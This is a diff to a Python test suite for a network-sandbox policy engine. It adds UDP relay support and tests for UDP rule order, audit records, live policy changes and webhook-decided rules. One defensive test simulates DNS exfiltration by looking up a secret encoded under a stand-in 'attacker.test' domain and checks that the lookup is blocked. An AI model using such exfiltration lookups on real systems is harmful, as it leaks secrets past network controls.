@@ -9,8 +9,8 @@ the machine:
 
     198.18.0.53:53   a DNS server (UDP and TCP) for a small zone, which
                      records every query it receives
-    198.18.0.10:7    TCP echo (and UDP echo, which counts datagrams)
-    198.18.0.10:8080 TCP echo
+    198.18.0.10:7    TCP echo (and UDP echo, which records datagrams)
+    198.18.0.10:8080 TCP echo (and UDP echo)
     198.18.0.10:80, 198.18.0.11:80
                      HTTP servers answering with the request's headers as JSON
 
@@ -129,17 +129,22 @@ def dnsq(name, qtype="A", transport="udp", server="198.18.0.53"):
     addrs = [rd.to_text() for rr in a.answer for rd in rr if rr.rdtype in (dns.rdatatype.A, dns.rdatatype.AAAA)]
     return {"rcode": dns.rcode.to_text(a.rcode()), "addrs": addrs}
 
-def udp(host, port, timeout=1.0):
+def udp(host, port, data="udp-ping", n=1, timeout=1.0):
+    # n datagrams from one socket (one association), each awaiting its echo.
     s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
     s.settimeout(timeout)
+    r = {"ok": False, "got": 0}
     try:
-        s.sendto(b"udp-ping", (host, port))
-        d, _ = s.recvfrom(100)
-        return {"ok": True, "data": d.decode("latin-1")}
+        for i in range(n):
+            s.sendto(data.encode(), (host, port))
+            d, frm = s.recvfrom(65536)
+            r.update(got=i + 1, data=d.decode("latin-1"), frm="%s:%d" % frm)
+        r["ok"] = r["got"] == n
     except Exception as e:
-        return {"ok": False, "err": why(e)}
+        r["err"] = why(e)
     finally:
         s.close()
+    return r
 
 def gai(name, family=4):
     fam = socket.AF_INET6 if family == 6 else socket.AF_INET
@@ -254,16 +259,24 @@ class _Echo(socketserver.BaseRequestHandler):
 
 
 class UdpEcho:
+    """Echoes datagrams; `seen` holds (server "IP:PORT", data) of each."""
+
     def __init__(self):
-        self.count = 0
+        self.count, self.seen, self.lock = 0, [], threading.Lock()
         outer = self
 
         class H(socketserver.BaseRequestHandler):
             def handle(self):
                 data, sock = self.request
-                outer.count += 1
+                with outer.lock:
+                    outer.count += 1
+                    outer.seen.append(("%s:%d" % sock.getsockname(), data.decode("latin-1")))
                 sock.sendto(data, self.client_address)
         self.handler = H
+
+    def got(self, data):
+        with self.lock:
+            return [srv for srv, d in self.seen if d == data]
 
 
 class _Headers(http.server.BaseHTTPRequestHandler):
@@ -295,6 +308,7 @@ class Net:
             (_TCP, (ECHO_IP, 7), _Echo),
             (_TCP, (ECHO_IP, 8080), _Echo),
             (_UDP, (ECHO_IP, 7), self.udp_echo.handler),
+            (_UDP, (ECHO_IP, 8080), self.udp_echo.handler),
             (_HTTP, (ECHO_IP, 80), _Headers),
             (_HTTP, (OTHER_IP, 80), _Headers),
         ]
@@ -526,18 +540,68 @@ def test_class_rules(run, tmp_path, net):
 # ---- what never gets out -------------------------------------------------------------------
 
 
-def test_udp_is_dropped(run, tmp_path, net):
-    # From the host the UDP echo answers; from a cell it never hears a thing.
+def test_udp_without_rule_is_dropped(run, tmp_path, net):
+    # From the host the UDP echo answers; from a cell whose rules allow
+    # only TCP it never hears a thing.
     with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
         s.settimeout(2)
         s.sendto(b"host", (ECHO_IP, 7))
         assert s.recvfrom(10)[0] == b"host"
     before = net.udp_echo.count
-    r = probe(run, tmp_path, {"rules": [{"udp": {"to": ECHO_IP}}, {"ip": {"to": ECHO_IP}}]},
+    r = probe(run, tmp_path, {"rules": [{"tcp": {"to": ECHO_IP}}]},
               [["udp", ECHO_IP, 7], ["tcp", ECHO_IP, 7]])
     assert not r[0]["ok"], r[0]
     assert allowed(r[1]), r[1]
     assert net.udp_echo.count == before
+
+
+# ---- UDP ------------------------------------------------------------------------------------
+
+
+def test_udp_rule_relays_datagrams(run, tmp_path, net):
+    ok, other_port, other_ip = uniq("u7"), uniq("u8080"), uniq("u11")
+    r = probe(run, tmp_path, {"rules": [{"udp": {"to": ECHO_IP, "ports": 7}}]},
+              [["udp", ECHO_IP, 7, {"data": ok, "n": 3}], ["udp", ECHO_IP, 8080, {"data": other_port}],
+               ["udp", OTHER_IP, 7, {"data": other_ip}], ["tcp", ECHO_IP, 7]])
+    # The reply comes from the address the cell sent to, as without a relay.
+    assert r[0]["ok"] and r[0]["data"] == ok and r[0]["frm"] == ECHO_IP + ":7", r[0]
+    assert net.udp_echo.got(ok) == [ECHO_IP + ":7"] * 3
+    assert not r[1]["ok"] and r[1]["err"] == "timeout", r[1]
+    assert not r[2]["ok"], r[2]
+    assert net.udp_echo.got(other_port) == [] and net.udp_echo.got(other_ip) == []
+    assert denied(r[3]), r[3]              # a udp rule says nothing about TCP
+
+
+def test_udp_rule_order_and_ip_rules(run, tmp_path, net):
+    deny_first = {"rules": [{"action": "deny", "udp": {"to": ECHO_IP, "ports": 8080}},
+                            {"udp": {"to": "198.18.0.0/24"}}]}
+    r = probe(run, tmp_path, deny_first, [["udp", ECHO_IP, 7], ["udp", ECHO_IP, 8080]])
+    assert r[0]["ok"] and not r[1]["ok"], r
+    r = probe(run, tmp_path, {"rules": list(reversed(deny_first["rules"]))},
+              [["udp", ECHO_IP, 7], ["udp", ECHO_IP, 8080]])
+    assert r[0]["ok"] and r[1]["ok"], r
+    # "ip" covers both transports; a "tcp" rule does not cover UDP.
+    r = probe(run, tmp_path, {"rules": [{"tcp": {"to": ECHO_IP, "ports": 8080}}, {"ip": {"to": ECHO_IP, "ports": 7}}]},
+              [["udp", ECHO_IP, 7], ["tcp", ECHO_IP, 7], ["udp", ECHO_IP, 8080], ["tcp", ECHO_IP, 8080]])
+    assert r[0]["ok"] and allowed(r[1]), r
+    assert not r[2]["ok"] and allowed(r[3]), r
+
+
+def test_udp_rules_do_not_bypass_the_resolver(run, tmp_path, net):
+    # DNS is redirected before UDP is relayed: allowing port 53 (or all UDP)
+    # still sends every query to the cell's resolver.
+    secret = uniq("udp-exfil")
+    for policy in ({"rules": [STRICT_DNS_RULE, {"host": {"name": "allowed.test"}}, {"udp": {}}]},
+                   {"rules": [STRICT_DNS_RULE, {"host": {"name": "allowed.test"}}, {"udp": {"ports": 53}}]}):
+        r = probe(run, tmp_path, policy,
+                  [["dns", secret + ".attacker.test"], ["dns", "allowed.test"], ["udp", ECHO_IP, 7]])
+        assert r[0] == {"rcode": "NXDOMAIN", "addrs": []}, (policy, r[0])
+        assert r[1] == {"rcode": "NOERROR", "addrs": [ECHO_IP]}, (policy, r[1])
+    before = len(net.zone.queries())
+    r = probe(run, tmp_path, {"rules": [{"udp": {}}]}, [["dns", "allowed.test"], ["udp", ECHO_IP, 7]])
+    assert r[0] == {"rcode": "REFUSED", "addrs": []} and r[1]["ok"], r
+    assert len(net.zone.queries()) == before
+    assert not [n for n in net.zone.names() if secret in n], net.zone.names()
 
 
 def test_ipv6_denied(run, tmp_path, net):
@@ -825,6 +889,59 @@ def test_decide_webhook_cache(admin, cells, net, webhook):
     assert all(allowed(x) for x in r), r
     assert len(webhook.count(cached)) == 1, webhook.hits
     assert len(webhook.count(uncached)) == 2, webhook.hits
+
+
+def test_udp_audit_and_live_policy(admin, net):
+    p7 = {"rules": [{"udp": {"to": ECHO_IP, "ports": 7}}]}
+    cid = create_cell(admin, p7)
+    try:
+        r = cell_probe(admin, cid, [["udp", ECHO_IP, 7, {"data": "0123456789", "n": 3}],
+                                    ["udp", ECHO_IP, 8080, {"n": 3, "timeout": 0.3}]])
+        assert r[0]["ok"] and not r[1]["ok"] and r[1]["got"] == 0, r
+        put = admin.put("/v1/cells/%s/policy" % cid, {"rules": [{"udp": {"to": ECHO_IP, "ports": 8080}}]})
+        assert put.status == 200 and put.body["policyLive"] is True, put
+        # New associations get the new policy.
+        r = cell_probe(admin, cid, [["udp", ECHO_IP, 7], ["udp", ECHO_IP, 8080, {"data": "abc"}]])
+        assert not r[0]["ok"] and r[1]["ok"] and r[1]["data"] == "abc", r
+    finally:
+        # Associations end when idle or with the engine: their records then.
+        assert admin.delete("/v1/cells/%s" % cid).status in (200, 204)
+
+    def udp_records():
+        recs = net_records(admin, cid, lambda x: x.get("event") == "connect" and x.get("transport") == "udp")
+        return recs if len([x for x in recs if x["verdict"] == "allow"]) >= 2 else None
+
+    recs = wait_for(udp_records, 10)
+    assert recs, net_records(admin, cid)
+    allow7 = [x for x in recs if x["verdict"] == "allow" and x["dst"] == ECHO_IP + ":7"]
+    assert len(allow7) == 1, recs
+    a = allow7[0]
+    assert a["rule"] == 0 and a["bytesOut"] == 30 and a["bytesIn"] == 30 and a["durationMs"] >= 0, a
+    assert a["src"].startswith("127.0.0.1:") and a["tenant"] == "default" and a["kind"] == "net", a
+    # Three datagrams of one denied association: one record.
+    deny8080 = [x for x in recs if x["verdict"] == "deny" and x["dst"] == ECHO_IP + ":8080"]
+    assert len(deny8080) == 1 and deny8080[0]["reason"] == "no rule matched" and deny8080[0]["rule"] == -1, recs
+    deny7 = [x for x in recs if x["verdict"] == "deny" and x["dst"] == ECHO_IP + ":7"]
+    assert len(deny7) == 1, recs
+    allow8080 = [x for x in recs if x["verdict"] == "allow" and x["dst"] == ECHO_IP + ":8080"]
+    assert len(allow8080) == 1 and allow8080[0]["bytesOut"] == 3 and allow8080[0]["bytesIn"] == 3, recs
+
+
+def test_udp_decide(admin, cells, net, webhook):
+    ua, ud = webhook.url("allow"), webhook.url("deny")
+    policy = {"rules": [{"decide": {"url": ua, "to": ECHO_IP, "ports": 7}},
+                        {"decide": {"url": ud, "to": ECHO_IP, "ports": 8080}}]}
+    cid = create_cell(admin, policy)
+    cells.append(cid)
+    r = cell_probe(admin, cid, [["udp", ECHO_IP, 7, {"n": 2}], ["udp", ECHO_IP, 8080, {"n": 2, "timeout": 0.3}]])
+    assert r[0]["ok"], r[0]                 # the first datagram waited for the answer
+    assert not r[1]["ok"], r[1]
+    hit = webhook.count(ua)
+    assert len(hit) == 1 and hit[0]["transport"] == "udp" and hit[0]["dst"] == ECHO_IP + ":7", webhook.hits
+    assert len(webhook.count(ud)) == 1, webhook.hits     # asked once per association, not per datagram
+    recs = wait_for(lambda: [x for x in net_records(admin, cid, lambda x: x.get("event") == "connect")
+                             if x["dst"] == ECHO_IP + ":8080"], 10)
+    assert recs and recs[0]["verdict"] == "deny" and recs[0]["reason"] == "decide" and recs[0]["transport"] == "udp", recs
 
 
 # ---- the CLI as a client ----------------------------------------------------------------
